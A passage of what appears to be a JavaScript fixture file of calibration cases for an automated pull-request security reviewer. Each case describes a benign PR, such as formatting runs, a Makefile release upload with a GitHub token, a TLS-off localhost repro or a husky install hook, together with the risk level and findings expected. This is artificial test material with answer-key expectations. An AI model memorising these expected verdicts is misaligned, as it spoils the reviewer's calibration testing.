    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'docs/go.mod', head: lines('module example.com/flagkit/docs/v3', '', 'go 1.22', '', 'replace example.com/flagkit/v3 => ../', '', 'require example.com/flagkit/v3 v3.0.0-alpha9') },
      { path: 'docs/example_test.go', head: lines('package docs_test', '', 'import (', '\t"fmt"', '', '\tflagkit "example.com/flagkit/v3"', ')', '', 'func ExampleCommand() {', '\tcmd := &flagkit.Command{Name: "greet"}', '\tfmt.Println(cmd.Name)', '\t// Output: greet', '}') },
    ],
    checks: GREEN_GO,
    expect: { ...LOW_APPROVE, findings: ['go-replace'] },
  }),
  pr({
    id: 'cal-go-gofumpt-grouped-declarations',
    description: "A maintainer of a Go CLI library formats the code base with gofumpt: adjacent type aliases become one type ( ... ) block, a var group is unwrapped to one line, composite literals get trailing commas, a file mode 0644 becomes 0o644; no token changes otherwise; CI green.",
    repo: 'flagkit',
    title: 'Format the code base with gofumpt',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'arg_types.go',
        base: lines('package flagkit', '', 'type FloatArg = ArgBase[float64, NoConfig, floatValue]', 'type IntArg = ArgBase[int64, IntConfig, intValue]', 'type StringArg = ArgBase[string, StringConfig, stringValue]', '', 'var (', '\tdefaultSeparator = ","', ')', '', 'func defaults() []string {', '\treturn []string{', '\t\tdefaultSeparator}', '}', '', 'func save(data []byte) error {', '\treturn os.WriteFile("flags.txt", data, 0644)', '}'),
        head: lines('package flagkit', '', 'type (', '\tFloatArg  = ArgBase[float64, NoConfig, floatValue]', '\tIntArg    = ArgBase[int64, IntConfig, intValue]', '\tStringArg = ArgBase[string, StringConfig, stringValue]', ')', '', 'var defaultSeparator = ","', '', 'func defaults() []string {', '\treturn []string{', '\t\tdefaultSeparator,', '\t}', '}', '', 'func save(data []byte) error {', '\treturn os.WriteFile("flags.txt", data, 0o644)', '}'),
      },
    ],
    checks: GREEN_GO,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-makefile-release-upload-own-token',
    description:
      "A maintainer of a Go CLI adds a release target to the Makefile that uploads the built archive to the GitHub release with GITHUB_TOKEN, to uploads.github.com: the token goes to the service it is for. Not credentials sent.",
    repo: 'routekit',
    title: 'build: make release uploads the archive',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'Makefile',
        base: lines('build:', '\tgo build -o dist/routekit ./cmd/routekit', '', 'test:', '\tgo test ./...'),
        head: lines(
          'build:',
          '\tgo build -o dist/routekit ./cmd/routekit',
          '',
          'test:',
          '\tgo test ./...',
          '',
          '.PHONY: release',
          'release: build',
          '\ttar -czf dist/routekit.tar.gz -C dist routekit',
          '\tcurl -sSf -H "Authorization: Bearer $(GITHUB_TOKEN)" -H "Content-Type: application/gzip" --data-binary @dist/routekit.tar.gz "https://uploads.github.com/repos/acme/routekit/releases/$(RELEASE_ID)/assets?name=routekit.tar.gz"',
        ),
      },
    ],
    checks: GREEN_GO,
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
  }),
  pr({
    id: 'cal-docs-update-makefile-docs-target',
    description: "A maintainer of a Go router reworks its documentation site: the README and the site's index page are rewritten, and the Makefile gains a docs target that serves the site locally; CI green.",
    repo: 'routekit',
    title: 'docs update',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'Makefile', base: lines('test:', '\tgo test ./...', '', 'test-middleware:', '\tgo test -race -v ./middleware'), head: lines('test:', '\tgo test ./...', '', 'test-middleware:', '\tgo test -race -v ./middleware', '', '.PHONY: docs', 'docs:', '\tnpx docsify-cli serve ./docs') },
      { path: 'docs/README.md', base: lines('# routekit', '', 'A small router.'), head: lines('# routekit', '', 'A small, composable router for HTTP services.', '', '## Install', '', '    go get example.com/routekit') },
      { path: 'docs/index.html', base: lines('<html><body><div id="app"></div></body></html>'), head: lines('<html>', '<head><title>routekit</title></head>', '<body><div id="app"></div></body>', '</html>') },
    ],
    checks: GREEN_GO,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-first-timer-docstring-changelog',
    description:
      "A first-time contributor (account 3 years old) corrects the changelog entries of a WSGI library's get_json docstring: the `.. versionchanged::` lines move to 2.3 and 2.3.2, one naming ``max_content_length`` and ``wsgi.input_terminated``; CI green. The docstring closes after a sentence whose last word, `calls.`, sits on a line of its own: it is text, not code, so no pr-claim-mismatch, no security-parsing-changed, no tests-missing (calib32: a replay of werkzeug as first contributions rated two such commits medium).",
    repo: 'wsgikit',
    title: 'fix changelog for json 415 error change',
    author: { login: 'doc-mender', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2023-03-14T00:00:00Z' },
    files: [
      {
        path: 'src/wsgikit/wrappers/request.py',
        base: lines('class Request:', '    def get_json(self, force=False, silent=False, cache=True):', '        """Parse data as JSON.', '', '        :param force: Ignore the mimetype and always try to parse JSON.', '        :param cache: Store the parsed JSON to return for subsequent', '            calls.', '', '        .. versionchanged:: 2.2.3', '            Raise a 415 error if the content type is incorrect.', '        """', '        if cache and self._cached_json is not None:', '            return self._cached_json', '        return self._load_json(force, silent)'),
        head: lines('class Request:', '    def get_json(self, force=False, silent=False, cache=True):', '        """Parse data as JSON.', '', '        :param force: Ignore the mimetype and always try to parse JSON.', '        :param cache: Store the parsed JSON to return for subsequent', '            calls.', '', '        .. versionchanged:: 2.3', '            Raise a 415 error instead of 400.', '', '        .. versionchanged:: 2.3.2', '            ``max_content_length`` is only applied to streaming requests if the server sets', '            ``wsgi.input_terminated``.', '        """', '        if cache and self._cached_json is not None:', '            return self._cached_json', '        return self._load_json(force, silent)'),
      },
    ],
    checks: GREEN_PY,
    expect: { level: 'low', action: 'comment', noFindings: true, drivers: ['author-trust'], absentDrivers: ['tests-missing'] },
  }),
  pr({
    id: 'cal-first-timer-annotation-type-none',
    description:
      "A first-time contributor (account 3 years old) adds the type annotations monkeytype inferred to a WSGI test client's set_cookie: `secure=None` becomes `secure: None = None`, `httponly=False` becomes `httponly: bool = False`; CI green. `None` there is the annotation's type, the default is still None: no protection-switched-off (calib32: a replay of werkzeug rated its monkeytype commit high for it).",
    repo: 'wsgikit',
    title: 'Generate type annotations using monkeytype',
    author: { login: 'type-hinter', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2022-10-02T00:00:00Z' },
    files: [
      {
        path: 'src/wsgikit/test_client.py',
        base: lines('class Client:', '    def set_cookie(', '        self,', '        key,', '        value="",', '        secure=None,', '        httponly=False,', '    ):', '        self._cookies[key] = (value, secure, httponly)'),
        head: lines('class Client:', '    def set_cookie(', '        self,', '        key: str,', '        value: str = "",', '        secure: None = None,', '        httponly: bool = False,', '    ) -> None:', '        self._cookies[key] = (value, secure, httponly)'),
      },
    ],
    checks: GREEN_PY,
    expect: { level: 'low', action: 'comment', noFindings: true, drivers: ['author-trust'], absentDrivers: ['finding:protection-switched-off'] },
  }),
  pr({
    id: 'cal-first-timer-build-script-rustc-version',
    description:
      "A first-time contributor (account 3 years old) makes a logging crate's build script ask the compiler Cargo gave it for its version (`Command::new(rustc).arg(\"--version\").output()`, rustc from `RUSTC`, serde's probe) to enable const functions from Rust 1.60, with a test; CI green. The compiler Cargo runs anyway, asked its version: no shell-command-execution (calib32: a replay of rust-lang/log rated such a rework medium for it).",
    repo: 'logr',
    title: 'Detect the compiler version in the build script',
    author: { login: 'const-fn-fan', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2021-05-20T00:00:00Z' },
    files: [
      {
        path: 'build.rs',
        base: lines('use std::env;', '', 'fn main() {', '    let target = env::var("TARGET").unwrap();', '    if !target.starts_with("thumbv6") {', '        println!("cargo:rustc-cfg=atomic_cas");', '    }', '    println!("cargo:rerun-if-changed=build.rs");', '}'),
        head: lines(
          'use std::env;',
          'use std::process::Command;',
          'use std::str;',
          '',
          'fn main() {',
          '    let target = env::var("TARGET").unwrap();',
          '    if !target.starts_with("thumbv6") {',
          '        println!("cargo:rustc-cfg=atomic_cas");',
          '    }',
          '    if rustc_minor_version().map_or(false, |minor| minor >= 60) {',
          '        println!("cargo:rustc-cfg=has_const_fn");',
          '    }',
          '    println!("cargo:rerun-if-changed=build.rs");',
          '}',
          '',
          'fn rustc_minor_version() -> Option<u32> {',
          '    let rustc = env::var_os("RUSTC")?;',
          '    let output = Command::new(rustc).arg("--version").output().ok()?;',
          '    let version = str::from_utf8(&output.stdout).ok()?;',
          "    let mut pieces = version.split('.');",
          '    if pieces.next() != Some("rustc 1") {',
          '        return None;',
          '    }',
          '    pieces.next()?.parse().ok()',
          '}',
        ),
      },
      { path: 'tests/const_fn.rs', base: lines('#[test]', 'fn level_max() {', '    assert_eq!(log::max_level(), log::LevelFilter::Off);', '}'), head: lines('#[test]', 'fn level_max() {', '    assert_eq!(log::max_level(), log::LevelFilter::Off);', '}', '', '#[cfg(has_const_fn)]', '#[test]', 'fn const_level() {', '    const L: log::Level = log::Level::Info;', '    assert_eq!(L.as_str(), "INFO");', '}') },
    ],
    checks: GREEN_RUST,
    expect: { level: 'low', action: 'comment', noFindings: true, drivers: ['author-trust'], absentDrivers: ['finding:shell-command-execution'] },
  }),
  pr({
    id: 'cal-approve-workflows-slash-command',
    description:
      "A maintainer syncs a workflow shared across the organization's repositories: on an issue comment '/workflow-approve' on a pull request, a job with actions: write hands the job token to the organization's own approve_workflows action (pinned by SHA), which approves the pending runs of a first-time contributor; CI green.",
    repo: 'metricskit',
    title: 'Synchronize common files from the main repository',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/approve-workflows.yml',
        head: lines(
          'name: Approve pending workflows',
          '',
          'on:',
          '  issue_comment:',
          '    types: [created]',
          '',
          'permissions: read-all',
          '',
          'jobs:',
          '  approve:',
          '    if: >-',
          '      github.event.issue.pull_request &&',
          "      github.event.comment.body == '/workflow-approve' &&",
          "      github.repository_owner == 'northwind'",
          '    runs-on: ubuntu-latest',
          '    permissions:',
          '      actions: write',
          '      contents: read',
          '    steps:',
          '      - uses: northwind/ci-tools/approve_workflows@6f1b2c3d4e5f60718293a4b5c6d7e8f901234567',
          '        with:',
          '          github_token: ${{ github.token }}',
        ),
      },
    ],
    checks: [{ name: 'test' }],
    // The issue_comment trigger stays a medium note (gha-dangerous-trigger); the scope is what the action is for.
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-excessive-permissions'] },
  }),
  pr({
    id: 'cal-cli-entry-inlines-engine-check',
    description:
      "A maintainer of a code formatter drops a tiny dependency from the CLI's CommonJS entry point: the Node version check is written inline, and the existing dynamic-import shim (new Function with string literals only) moves into a run() function beside a check of an --experimental flag or environment variable; CI green.",
    repo: 'tidyfmt',
    title: 'Remove `node-version-guard`',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'bin/tidyfmt.cjs',
        base: lines(
          '#!/usr/bin/env node',
          '"use strict";',
          '',
          'var versionGuard = require("node-version-guard");',
          'versionGuard(require("../package.json"));',
          '',
          'var dynamicImport = new Function("module", "return import(module)");',
          '',
          'var promise;',
          'var index = process.argv.indexOf("--experimental-cli");',
          'if (process.env.TIDYFMT_EXPERIMENTAL_CLI || index !== -1) {',
          '  promise = dynamicImport("../src/next-cli/index.js");',
          '} else {',
          '  promise = dynamicImport("../src/cli/index.js").then(function (cli) {',
          '    return cli.run();',
          '  });',
          '}',
          '',
          'module.exports.promise = promise;',
        ),
        head: lines(
          '#!/usr/bin/env node',
          '"use strict";',
          '',
          'function shouldEnableExperimentalCli() {',
          '  var index = process.argv.indexOf("--experimental-cli");',
          '  return index !== -1 || process.env.TIDYFMT_EXPERIMENTAL_CLI;',
          '}',
          '',
          'var required = Number(require("../package.json").engines.node.replace(">=", "").split(".")[0]);',
          '',
          'function run() {',
          '  if (Number(process.versions.node.split(".")[0]) < required) {',
          '    process.exitCode = 1;',
          '    return Promise.reject(new Error("tidyfmt requires Node.js " + required + " or later"));',
          '  }',
          '  var dynamicImport = new Function("module", "return import(module)");',
          '  if (shouldEnableExperimentalCli()) {',
          '    return dynamicImport("../src/next-cli/index.js");',
          '  }',
          '  return dynamicImport("../src/cli/index.js").then(function (cli) {',
          '    return cli.run();',
          '  });',
          '}',
          '',
          'module.exports.promise = run();',
        ),
      },
      {
        path: 'package.json',
        base: packageJson({ name: 'tidyfmt', version: '4.1.0', dependencies: { 'node-version-guard': '^1.1.0' } }),
        head: packageJson({ name: 'tidyfmt', version: '4.1.0' }),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
  }),
  pr({
    id: 'cal-python-optional-dependency-fallback',
    description: 'A maintainer of an HTTP client makes its JSON speed-up optional: instead of importing one accelerator or failing, the compatibility module tries a literal list of accelerators with importlib.import_module in a loop and falls back to the standard library; a test; CI green.',
    repo: 'fetchkit',
    title: 'Allow running without a JSON accelerator installed',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'src/fetchkit/compat.py',
        base: lines('"""Compatibility helpers."""', '', 'try:', '    import fastjson as jsonlib', 'except ImportError:', '    import simplejson as jsonlib', '', 'import sys', ''),
        head: lines('"""Compatibility helpers."""', '', 'import importlib', 'import json', 'import sys', '', '', 'def _resolve_json_backend():', '    """Find an installed JSON accelerator, else the standard library."""', '    backend = None', '    for lib in ("fastjson", "simplejson"):', '        if backend is None:', '            try:', '                backend = importlib.import_module(lib)', '            except ImportError:', '                pass', '    return backend or json', '', '', 'jsonlib = _resolve_json_backend()', ''),
      },
      { path: 'tests/test_compat.py', base: lines('import fetchkit.compat'), head: lines('import fetchkit.compat', '', '', 'def test_json_backend_loads():', '    assert fetchkit.compat.jsonlib.loads("[1]") == [1]') },
    ],
    checks: GREEN_PY,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-husky-prepare-hooks',
    description: 'A maintainer of an HTTP client sets up commit-message linting: husky and commitlint become dev dependencies, "prepare" runs `husky install && npm run prepare:hooks`, and prepare:hooks adds the commit-msg hook with `npx husky add`; a commitlint config; CI green.',
    repo: 'fetchkit-js',
    title: 'CI/release scripts',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'package.json',
        base: packageJson({ name: 'fetchkit', version: '1.2.0', scripts: { test: 'vitest run' } }),
        head: packageJson({
          name: 'fetchkit',
          version: '1.2.0',
          scripts: { test: 'vitest run', prepare: 'husky install && npm run prepare:hooks', 'prepare:hooks': 'npx husky add .husky/commit-msg "npx commitlint --edit $1"' },
        }),
      },
      { path: 'commitlint.config.js', head: lines("module.exports = { extends: ['@commitlint/config-conventional'] };", '') },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['npm-install-script'] },
  }),
  pr({
    id: 'cal-benchmark-harness-profiles',
    description: 'A maintainer of a UI compiler lets the benchmark harness write CPU profiles: benchmarking/compare/index.js checks out each branch named on the command line with execSync and forks the runner with the environment plus a profile directory; a helper module; CI green.',
    repo: 'glint-ui',
    title: 'chore: add profiling to the benchmark harness',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'benchmarking/compare/index.js',
        base: lines("import { execSync, fork } from 'node:child_process';", '', 'const branches = process.argv.slice(2);', '', 'for (const branch of branches) {', '  execSync(`git checkout ${branch}`);', '  fork(runner, []);', '}', ''),
        head: lines(
          "import { execSync, fork } from 'node:child_process';",
          "import { profileDir } from '../utils.js';",
          '',
          'const branches = process.argv.slice(2);',
          '',
          'for (const branch of branches) {',
          '  execSync(`git checkout ${branch}`);',
          '  fork(runner, [], { env: { ...process.env, BENCH_PROFILE_DIR: profileDir(branch) } });',
          '}',
          '',
        ),
      },
      {
        path: 'benchmarking/utils.js',
        head: lines("import path from 'node:path';", '', 'export function profileDir(branch) {', "  return path.join(process.env.BENCH_OUT ?? '.profiles', branch.replace(/[^a-z0-9]/gi, '_'));", '}', ''),
      },
    ],
    expect: { level: 'low', action: 'approve', absentDrivers: ['finding:shell-command-execution'] },
  }),
  pr({
    id: 'cal-tls-off-local-repro-server',
    description: 'A maintainer of an HTTP client fixes HTTP/2 multiplexing and commits a repro script beside it: the script starts an HTTP/2 server on localhost with a freshly generated self-signed certificate and measures requests through agents with rejectUnauthorized: false; the fix with a test; CI green.',
    repo: 'fetchkit-js',
    title: 'fix(h2): multiplex requests on one session',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'repro-h2-multiplex.mjs',
        head: lines(
          "import { createSecureServer } from 'node:http2';",
          "import { once } from 'node:events';",
          "import { Agent, request } from './index.js';",
          "import { selfSignedPair } from './test/fixtures/certs.js';",
          '',
          'const server = createSecureServer({ ...(await selfSignedPair()), allowHTTP1: true }, (req, res) => {',
          '  setTimeout(() => res.end("ok"), 500);',
          '});',
          'server.listen(0);',
          "await once(server, 'listening');",
          'const url = `https://localhost:${server.address().port}/`;',
          '',
          'const tlsOpts = { connect: { rejectUnauthorized: false } };',
          'const agent = new Agent({ ...tlsOpts, connections: 1, pipelining: 100 });',
          'const started = Date.now();',
          'await Promise.all(Array.from({ length: 10 }, () => request(url, { dispatcher: agent }).then((r) => r.body.text())));',
          'console.log(`total ${Date.now() - started}ms`);',
          'server.close();',
          'await agent.close();',
          '',
        ),
      },
      {
        path: 'lib/h2-session.js',
        base: lines('function maxConcurrent(client) {', '  return 1;', '}', '', 'module.exports = { maxConcurrent };', ''),
        head: lines('function maxConcurrent(client) {', '  return client.pipelining > 1 ? client.pipelining : 100;', '}', '', 'module.exports = { maxConcurrent };', ''),
      },
      {
        path: 'test/h2-session.test.js',
        base: lines("const { maxConcurrent } = require('../lib/h2-session.js');", ''),
        head: lines("const { maxConcurrent } = require('../lib/h2-session.js');", '', "test('multiplexes by default', () => {", '  expect(maxConcurrent({ pipelining: 1 })).toBe(100);', '});', ''),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'] },
  }),
  pr({
    id: 'cal-yarn-upgrade-builtin-patch-checksum',
    description: 'Renovate upgrades the committed Yarn release of a formatter\'s docs site: the release file is renamed to the new version, yarnPath and packageManager move with it, and the lockfile\'s entry for resolve under Yarn\'s built-in compat patch gets a new patch hash and checksum at the same version; CI green.',
    repo: 'tidyfmt',
    title: 'Update Yarn to v4.9.3',
    author: RENOVATE,
    commits: [botCommit('Update Yarn to v4.9.3', 'renovate[bot]', 29139614)],
    files: [
      { path: '.yarnrc.yml', base: lines('nodeLinker: node-modules', 'yarnPath: .yarn/releases/yarn-4.9.2.cjs', ''), head: lines('nodeLinker: node-modules', 'yarnPath: .yarn/releases/yarn-4.9.3.cjs', '') },
      { path: 'website/package.json', base: packageJson({ name: 'tidyfmt-website', version: '0.0.0', scripts: { build: 'site build' } }).replace('"private": true,', '"private": true,\n  "packageManager": "yarn@4.9.2",'), head: packageJson({ name: 'tidyfmt-website', version: '0.0.0', scripts: { build: 'site build' } }).replace('"private": true,', '"private": true,\n  "packageManager": "yarn@4.9.3",') },
      { path: 'website/yarn.lock', base: lines('__metadata:', '  version: 8', '  cacheKey: 10', '', '"resolve@npm:1.22.8":', '  version: 1.22.8', '  resolution: "resolve@npm:1.22.8"', `  checksum: 10/${'f'.repeat(128)}`, '  languageName: node', '  linkType: hard', '', '"resolve@patch:resolve@npm%3A^1.22.1#optional!builtin<compat/resolve>":', '  version: 1.22.8', '  resolution: "resolve@patch:resolve@npm%3A1.22.8#optional!builtin<compat/resolve>::version=1.22.8&hash=c3c19d"', `  checksum: 10/${'a'.repeat(128)}`, '  languageName: node', '  linkType: hard', ''), head: lines('__metadata:', '  version: 8', '  cacheKey: 10', '', '"resolve@npm:1.22.8":', '  version: 1.22.8', '  resolution: "resolve@npm:1.22.8"', `  checksum: 10/${'f'.repeat(128)}`, '  languageName: node', '  linkType: hard', '', '"resolve@patch:resolve@npm%3A^1.22.1#optional!builtin<compat/resolve>":', '  version: 1.22.8', '  resolution: "resolve@patch:resolve@npm%3A1.22.8#optional!builtin<compat/resolve>::version=1.22.8&hash=9bd1a5"', `  checksum: 10/${'b'.repeat(128)}`, '  languageName: node', '  linkType: hard', '') },
    ],
    // .yarnrc.yml is package registry configuration (a sensitive path): medium with a comment is the floor.
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
  }),
  pr({
    id: 'cal-gofumpt-format-and-enforce-in-ci',
    description: 'A maintainer of a Go CLI library formats the codebase with gofumpt and, as the title says, adds a lint step to the workflow that fails when gofumpt would change a file; CI green.',
    repo: 'flagkit',
    title: 'Format whole codebase with gofumpt and enforce it in CI',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'flag.go',
        base: lines('package flagkit', '', 'var (', '\tdefaultSep = ","', ')', '', 'func split(s string) []string {', '\treturn strings.Split(s, defaultSep)', '}', ''),
        head: lines('package flagkit', '', 'var defaultSep = ","', '', 'func split(s string) []string {', '\treturn strings.Split(s, defaultSep)', '}', ''),
      },
      {
        path: '.github/workflows/lint.yml',
        base: lines('name: lint', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  lint:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - uses: actions/setup-go@3041bf56c941b39c61721a86cd11f3bb1338122a # v5.2.0', '      - run: go vet ./...', ''),
        head: lines('name: lint', 'on: [push, pull_request]', 'permissions:', '  contents: read', 'jobs:', '  lint:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - uses: actions/setup-go@3041bf56c941b39c61721a86cd11f3bb1338122a # v5.2.0', '      - run: go vet ./...', '      - run: go run mvdan.cc/gofumpt@v0.7.0 -l -d .', ''),
      },
    ],
    checks: GREEN_GO,
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:pr-claim-mismatch'] },
  }),
  pr({
    id: 'cal-docs-generator-script-and-page',
    description: 'A maintainer of a UI framework tidies the generated browser-support docs page: the generator script under packages/ui/scripts/ renders fewer columns and skips features without a version, and the regenerated Markdown page changes with it; CI green.',
    repo: 'glint-ui',
    title: 'docs: tidy the browser support page',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'packages/ui/scripts/generate-browser-support.ts',
        base: lines("import fs from 'node:fs';", "import { features } from './features.ts';", '', 'function generate(name: string, text: string) {', "  fs.writeFileSync(new URL(`../../../documentation/docs/misc/${name}`, import.meta.url), text);", '}', '', 'const rows = features.map((f) => `| ${f.name} | ${f.chrome} | ${f.firefox} | ${f.safari} | ${f.notes} |`);', "generate('browser-support.md', ['| feature | chrome | firefox | safari | notes |', '|---|---|---|---|---|', ...rows].join('\\n'));", ''),
        head: lines("import fs from 'node:fs';", "import { features } from './features.ts';", '', 'function generate(name: string, text: string) {', "  fs.writeFileSync(new URL(`../../../documentation/docs/misc/${name}`, import.meta.url), text);", '}', '', 'const rows = features.filter((f) => f.chrome !== null).map((f) => `| ${f.name} | ${f.chrome} | ${f.firefox} | ${f.safari} |`);', "generate('browser-support.md', ['| feature | chrome | firefox | safari |', '|---|---|---|---|', ...rows].join('\\n'));", ''),
      },
      {
        path: 'documentation/docs/misc/browser-support.md',
        base: lines('| feature | chrome | firefox | safari | notes |', '|---|---|---|---|---|', '| `$state.snapshot` | 98 | 94 | 15.4 | |', '| `flip` | — | 126 | — | needs polyfill |'),
        head: lines('| feature | chrome | firefox | safari |', '|---|---|---|---|', '| `$state.snapshot` | 98 | 94 | 15.4 |'),
      },
    ],
    expect: { ...LOW_APPROVE, absentDrivers: ['finding:pr-claim-mismatch'] },
  }),
  pr({
    id: 'cal-formatter-run-black',
    description:
      'A maintainer runs a new black over 70 modules: its magic trailing comma explodes one-line calls over several lines, the same words in every file (modeled on the "Black 24" and "Run prettier" PRs of real projects). Over 2,000 reviewable lines, but one change repeated: the size does not ask for discussion, and the rationale says why.',
    repo: 'sextant',
    title: 'Format with black 24',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: Array.from({ length: 70 }, (_, i) => ({
      path: `sextant/stages/stage_${i}.py`,
      base: lines(...Array.from({ length: 6 }, (_, k) => `result_${k} = compute_${i}(first_${k}, second_${k}, third_${k})`)),
      head: lines(...Array.from({ length: 6 }, (_, k) => [`result_${k} = compute_${i}(`, `    first_${k},`, `    second_${k},`, `    third_${k},`, ')']).flat()),
    })),
    checks: GREEN_PY,
    expect: { level: ['low', 'medium'], action: 'comment', absentDrivers: ['finding:pr-claim-mismatch'] },
  }),
  pr({
    id: 'cal-formatter-run-through-auth',
    description:
      "A maintainer runs a new black over a web app: it rewraps long calls and normalises quotes in eight modules, two of them the login view and the token signer under `auth/`. The same words in every file, CI green: the formatter passed through the authentication code, it did not change it (was medium from sensitive-paths alone).",
    repo: 'sextant',
    title: 'Format with black 26',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'sextant/auth/tokens.py',
        base: lines('import jwt', '', '', 'def issue_token(user, now):', "    claims = {'sub': user.id, 'scope': user.scope, 'exp': now + TOKEN_TTL}", "    return jwt.encode(claims, settings.SECRET_KEY, algorithm='HS256')"),
        head: lines('import jwt', '', '', 'def issue_token(user, now):', '    claims = {"sub": user.id, "scope": user.scope, "exp": now + TOKEN_TTL}', '    return jwt.encode(', '        claims, settings.SECRET_KEY, algorithm="HS256"', '    )'),
      },
      {
        path: 'sextant/auth/login.py',
        base: lines('def login(request, credentials):', "    user = authenticate(request, username=credentials['username'], password=credentials['password'])", '    if user is None:', "        raise AuthError('Invalid credentials')", '    return start_session(request, user)'),
        head: lines('def login(request, credentials):', '    user = authenticate(', '        request, username=credentials["username"], password=credentials["password"]', '    )', '    if user is None:', '        raise AuthError("Invalid credentials")', '    return start_session(request, user)'),
      },
      ...Array.from({ length: 6 }, (_, i) => ({
        path: `sextant/reports/report_${i}.py`,
        base: lines(`def render_${i}(rows):`, `    return table(rows, columns=['name', 'total', 'share_${i}'], sort_by='total', descending=True)`),
        head: lines(`def render_${i}(rows):`, '    return table(', `        rows, columns=["name", "total", "share_${i}"], sort_by="total", descending=True`, '    )'),
      })),
    ],
    checks: GREEN_PY,
    expect: { ...LOW_APPROVE, absentDrivers: ['sensitive-paths', 'finding:pr-claim-mismatch'] },
  }),
  pr({
    id: 'cal-codeowners-team-handover',
    description:
      'A maintainer hands the whole repository from one team to its successor in CODEOWNERS, in a PR of its own (modeled on the "Update CODEOWNERS" PRs of actions/setup-node and hashicorp providers). GitHub asks the old team, which owns CODEOWNERS on the base, to approve: a note, not a request for changes.',
    repo: 'sextant',
    title: 'Update CODEOWNERS',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [{ path: '.github/CODEOWNERS', base: lines('* @northwind/platform-runtime'), head: lines('* @northwind/platform-devex') }],
    checks: GREEN_PY,
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
  }),
  pr({
    id: 'cal-member-login-message-typo',
    description:
      "A maintainer fixes two misspelled words in the error message of the web app's login view (modeled on one-line typo PRs replayed by calib9): the code outside the string is unchanged, CI green. Was medium/comment from the sensitive path alone, with no finding behind it.",
    repo: 'sextant',
    title: 'Fix typo in login error message',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'sextant/auth/login.py',
        base: lines('def login(request, users):', '    user = users.authenticate(request.form["name"], request.form["password"])', '    if user is None:', '        raise LoginFailed("Invalid credentails, please try agian")', '    return start_session(user)'),
        head: lines('def login(request, users):', '    user = users.authenticate(request.form["name"], request.form["password"])', '    if user is None:', '        raise LoginFailed("Invalid credentials, please try again")', '    return start_session(user)'),
      },
    ],
    checks: GREEN_PY,
    expect: { ...LOW_APPROVE, noFindings: true, absentDrivers: ['sensitive-paths'] },
  }),
  pr({
    id: 'cal-csharp-rename-in-token-setup',
    description:
      'A maintainer renames the variables of an ASP.NET Core service\'s JWT and HTTP client set-up: the validation stays on, a comment warns against an accept-anything certificate callback, and a verbatim path ends in a backslash. Nothing is weakened, so nothing is reported.',
    repo: 'ledger-api',
    title: 'Rename variables in the token set-up',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'src/Ledger.Api/ServiceSetup.cs',
        base: lines(
          'public static void AddLedger(this IServiceCollection s, IConfiguration c)',
          '{',
          '    var k = new SymmetricSecurityKey(Convert.FromBase64String(c["Jwt:Key"]));',
          '    s.AddAuthentication().AddJwtBearer(o => o.TokenValidationParameters = new TokenValidationParameters',
          '    {',
          '        ValidateIssuer = true,',
          '        ValidateLifetime = true,',
          '        IssuerSigningKey = k,',
          '    });',
          '    var certs = @"C:\\ProgramData\\Ledger\\";',
          '    s.AddHttpClient("ledger");',
          '}',
        ),
        head: lines(
          'public static void AddLedger(this IServiceCollection services, IConfiguration config)',
          '{',
          '    var signingKey = new SymmetricSecurityKey(Convert.FromBase64String(config["Jwt:Key"]));',
          '    services.AddAuthentication().AddJwtBearer(options => options.TokenValidationParameters = new TokenValidationParameters',
          '    {',
          '        ValidateIssuer = true,',
          '        ValidateLifetime = true,',
          '        IssuerSigningKey = signingKey,',
          '    });',
          '    // Never set ServerCertificateCustomValidationCallback = (m, c, ch, e) => true here: the bank\'s CA is in the store.',
          '    var certificateFolder = @"C:\\ProgramData\\Ledger\\";',
          '    services.AddHttpClient("ledger");',
          '}',
        ),
      },
    ],
    checks: [{ name: 'dotnet test' }, { name: 'dotnet format' }],
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
